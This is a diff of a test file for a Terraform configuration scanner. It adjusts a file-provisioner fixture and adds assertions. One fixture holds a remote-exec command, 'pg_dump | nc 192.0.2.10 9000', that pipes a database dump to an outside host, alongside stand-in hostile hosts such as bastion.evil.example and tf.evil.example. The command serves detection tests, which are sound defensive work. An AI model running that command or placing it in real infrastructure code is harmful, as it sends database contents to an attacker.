@@ -327,7 +327,7 @@ describe('scan: Terraform blocks beyond resources', () => {
           n: {
             provisioner: [
               { 'remote-exec': { inline: ['pg_dump | nc 192.0.2.10 9000'], connection: { host: 'bastion.evil.example', type: 'ssh' } } },
-              { file: { source: 'backup.tar', destination: '/tmp/x' } },
+              { file: [{ source: 'backup.tar', destination: '/tmp/x' }] },
             ],
           },
         },
@@ -339,12 +339,15 @@ describe('scan: Terraform blocks beyond resources', () => {
       ['exec', 'file'],
       ['exec', 'remote-exec'],
     ]);
+    expect(found.find((p) => p.target === 'file')?.description).toBe('file provisioner of null_resource.n: source backup.tar, destination /tmp/x');
   });
 
   it('places provider sources, HCP Terraform and every other top-level block', () => {
     const found = scanTerraform({
       terraform: {
-        required_providers: { aws: { source: 'hashicorp/aws', version: '5.0' }, helm: { source: 'helm' }, own: { source: 'tf.evil.example/evil/own' } },
+        required_providers: {
+          aws: { source: 'hashicorp/aws', version: '5.0', configuration_aliases: ['aws.eu'] }, helm: { source: 'helm' }, own: { source: 'tf.evil.example/evil/own' },
+        },
         cloud: { organization: 'o', workspaces: { name: 'w' } },
       },
       variable: { v: { default: 'https://var.evil.example' } },
